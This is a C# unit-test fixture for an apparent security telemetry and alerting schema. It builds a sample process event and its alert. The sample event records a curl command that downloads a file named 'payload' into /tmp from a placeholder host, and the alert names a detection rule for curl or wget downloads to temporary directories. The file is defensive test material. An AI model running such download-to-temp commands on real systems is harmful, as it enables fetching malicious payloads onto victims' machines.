using Vigil.Contracts.Alerts;
using Vigil.Contracts.Telemetry;

namespace Vigil.SchemaRegistry.UnitTests;

/// <summary>A realistic telemetry event and the alert it raised, with nested messages and repeated fields filled in.</summary>
internal static class ContractSamples
{
    public static TelemetryEvent CurlExec() => new()
    {
        Timestamp = 1_735_689_600_123_456_789,
        Event = new Event
        {
            Id = "evt-0001",
            Sequence = 42,
            Category = { "process" },
            Type = { "start" },
            Action = "exec",
            Kind = "event",
        },
        Host = new Host { Id = "host-7f3a", Name = "mbp-analyst-07", Os = new Os { Type = "macos" } },
        User = new User { Name = "alice", Id = "501" },
        Process = new Process
        {
            EntityId = "proc-9",
            Pid = 4242,
            Name = "curl",
            Executable = "/usr/bin/curl",
            Args = { "curl", "-o", "/tmp/payload", "https://example.test/p" },
            ArgsCount = 4,
            CommandLine = "curl -o /tmp/payload https://example.test/p",
            Parent = new Process { Name = "zsh", Executable = "/bin/zsh", EntityId = "proc-1" },
        },
    };

    public static Alert CurlAlert() => new()
    {
        Id = "alert-an0167-1",
        Rule = new Rule
        {
            Id = "an0167",
            Name = "curl or wget download to a temporary directory",
            AnalyticId = "AN0167",
            Severity = "high",
            RiskScore = 73,
            Techniques = { "T1105" },
            Tactics = { "TA0011" },
        },
        Host = new Host { Id = "host-7f3a", Name = "mbp-analyst-07" },
        FirstEventTime = 1_735_689_600_123_456_789,
        LastEventTime = 1_735_689_601_000_000_000,
        JoinKeys = { new JoinKey { Field = "host.id", Value = "host-7f3a" } },
        Evidence = { new Evidence { Step = 0, Event = CurlExec() } },
        Reason = "curl ran, connected out and created /tmp/payload",
        Producer = "correlator/an0167",
    };
}
